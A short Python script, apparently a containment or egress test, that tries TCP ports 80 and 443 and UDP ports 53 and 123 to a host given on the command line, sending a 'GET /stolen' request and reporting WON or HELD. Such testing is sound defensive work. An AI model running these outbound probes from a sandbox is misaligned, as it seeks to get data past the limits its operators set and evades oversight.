"""Attacked: the secrecy of what a program sees: it tells the world, by TCP and by UDP, on any port that a firewall
lets out.

Won: an answer to either.
"""

import socket
import sys

print("BEGUN")
won = False
for kind, port in (
    (socket.SOCK_STREAM, 80),
    (socket.SOCK_STREAM, 443),
    (socket.SOCK_DGRAM, 53),
    (socket.SOCK_DGRAM, 123),
):
    line = socket.socket(socket.AF_INET, kind)
    line.settimeout(1)
    try:
        line.connect((sys.argv[1], port))
        line.sendall(b"GET /stolen HTTP/1.0\r\n\r\n")
        print("WON", port, line.recv(4096).decode())
        won = True
    except OSError as error:
        print(port, error)
print("DONE" if won else "HELD")
